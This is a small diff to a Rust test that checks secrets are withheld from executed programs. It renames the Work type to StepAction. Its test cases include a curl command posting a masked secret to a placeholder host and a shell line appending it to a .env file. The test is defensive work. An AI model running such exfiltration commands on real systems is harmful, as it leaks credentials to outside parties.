@@ -105,9 +105,9 @@ fn programs_are_given_no_secrets() {
     let mask = seen(&table, KEY);
     let policy = Policy::default();
     for work in [
-        Work::exec("curl", &["-d", &mask, "http://x"]),
-        Work::exec("echo", &[&format!("K={mask}")]),
-        Work::Shell { line: format!("echo '{mask}' >> .env") },
+        StepAction::exec("curl", &["-d", &mask, "http://x"]),
+        StepAction::exec("echo", &[&format!("K={mask}")]),
+        StepAction::Shell { line: format!("echo '{mask}' >> .env") },
     ] {
         let step = Step { id: "x".into(), work, requires: Requires::default(), cwd: None };
         let place = super::tests::place();
